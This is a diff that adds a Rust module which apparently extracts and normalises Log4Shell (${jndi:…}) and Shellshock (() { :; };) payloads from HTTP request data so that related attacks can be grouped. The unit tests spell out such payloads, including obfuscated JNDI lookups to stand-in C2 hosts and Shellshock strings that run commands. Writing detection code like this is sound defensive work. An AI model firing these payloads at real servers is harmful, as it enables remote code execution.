@@ -1,0 +1,131 @@
+//! What a request has in it for whoever reads it to run.
+
+use std::borrow::Cow;
+
+use serde_json::Value;
+
+use super::mask::{bounded, same_command};
+use super::mention::registrable;
+use super::temporary;
+use super::token::is_made_up;
+use crate::path;
+
+/// What was sent in a request for whoever reads it to run: `${jndi:…}`, `() { :; };`. Else a header says who asks, and not what for; answers
+/// have scripts of their own.
+pub(super) fn payloads(data: &Value) -> Vec<String> {
+    let mut payloads = Vec::new();
+    path::visit_below("http", path::child(data, "http"), &mut |path, leaf| {
+        // A role tells of the first two.
+        let is_other = ["http.url", "http.hostname"].contains(&path) || path.contains("response");
+        let text = if is_other { None } else { leaf.text(path) };
+        if let Some(payload) = text.as_deref().and_then(payload) {
+            payloads.push(format!("{path} {}", same_payload(&payload)));
+        }
+    });
+    payloads
+}
+
+/// The function of a shell that a value is, with what runs behind it, or all `${…}` in it.
+fn payload(text: &str) -> Option<Cow<'_, str>> {
+    if text.starts_with("() {") {
+        return Some(Cow::Borrowed(text));
+    }
+    let mut payload = String::new();
+    let mut rest = text;
+    while let Some(start) = rest.find("${") {
+        let mut open = 0_u32;
+        let closing = rest[start..].find(|c| {
+            match c {
+                '{' => open += 1,
+                '}' => open -= 1,
+                _ => {}
+            }
+            c == '}' && open == 0
+        });
+        let end = closing.map_or(rest.len(), |end| start + end + 1);
+        payload.push_str(&rest[start..end]);
+        rest = &rest[end..];
+    }
+    (!payload.is_empty()).then_some(Cow::Owned(payload))
+}
+
+/// A payload as [`same_command`], with the numbers of whom it leads to: of a machine, and of a port.
+fn same_payload(payload: &str) -> String {
+    let is_part = |c: char| c.is_alphanumeric() || matches!(c, '.' | ':' | '-' | '_' | '#');
+    bounded(payload, |payload| {
+        let payload = temporary::without_names(&payload.to_lowercase());
+        let mut out = String::with_capacity(payload.len());
+        let mut rest = payload.as_str();
+        while !rest.is_empty() {
+            let (word, after) = rest.split_at(rest.find(|c| !is_part(c)).unwrap_or(rest.len()));
+            let (between, next) = after.split_at(after.find(is_part).unwrap_or(after.len()));
+            if word.contains(['.', ':']) {
+                out.push_str(&same_place(word));
+            } else {
+                out.push_str(&same_command(word));
+            }
+            out.push_str(between);
+            rest = next;
+        }
+        out
+    })
+}
+
+/// A machine and a port without what was made up for a request: who looks for holes asks each to call another name below his own.
+fn same_place(place: &str) -> String {
+    let end = place.find(':').unwrap_or(place.len());
+    let own = end - registrable(&place[..end]).len();
+    let below = place[..own].split_inclusive('.').map(|label| {
+        let is_one_of_many = is_made_up(label.trim_end_matches('.'));
+        if is_one_of_many { "#." } else { label }
+    });
+    below.collect::<String>() + &place[own..]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_payload_is_told_by_where_it_leads_and_not_by_what_was_made_up_for_one_request() {
+        let same = |text: &str| same_payload(&payload(text).unwrap());
+        for (one, other) in [
+            ("${jndi:ldap://c2-01.example/a}", "${jndi:ldap://c2-02.example/a}"),
+            ("${jndi:ldap://203.0.113.9:1389/a}", "${jndi:ldap://203.0.113.9:4444/a}"),
+            ("${jndi:dns:web-1.example}", "${jndi:dns:web-2.example}"),
+            (
+                "${j${::-n}di:l${x}p${::-:}//c2-01.example/a}",
+                "${j${::-n}di:l${x}p${::-:}//c2-02.example/a}",
+            ),
+            ("${jndi:ldap://q8zt1xkp.example/a}", "${jndi:ldap://m2wr7ylb.example/a}"),
+            (
+                "() { :; }; ping -c 1 c2-01.example",
+                "() { :; }; ping -c 1 c2-02.example",
+            ),
+            (
+                "${jndi:rmi://a.example/Basic/d2hvYW1p}",
+                "${jndi:rmi://a.example/Basic/aWQ7dW5h}",
+            ),
+        ] {
+            assert_ne!(same(one), same(other), "{one}");
+        }
+        for (one, other) in [
+            (
+                "${jndi:ldap://203.0.113.9:1389/3f9a1c0d}",
+                "${jndi:ldap://203.0.113.9:1389/a17e00b2}",
+            ),
+            ("${jndi:ldap://c2-01.example/4711}", "${jndi:ldap://c2-01.example/17}"),
+            (
+                "${jndi:ldap://c8k2j1h0q3.oast.example/a}",
+                "${jndi:ldap://d1m4r7z2x9.oast.example/a}",
+            ),
+            (
+                "${jndi:dns://5770385f-c22a-43e0-bf4c-06f5698ffbd9/a}",
+                "${jndi:dns://11111111-aaaa-43e0-bf4c-06f5698ffbd9/a}",
+            ),
+            ("() { :; }; sh /tmp/aaaq.sh", "() { :; }; sh /tmp/bbbq.sh"),
+        ] {
+            assert_eq!(same(one), same(other), "{one}");
+        }
+    }
+}
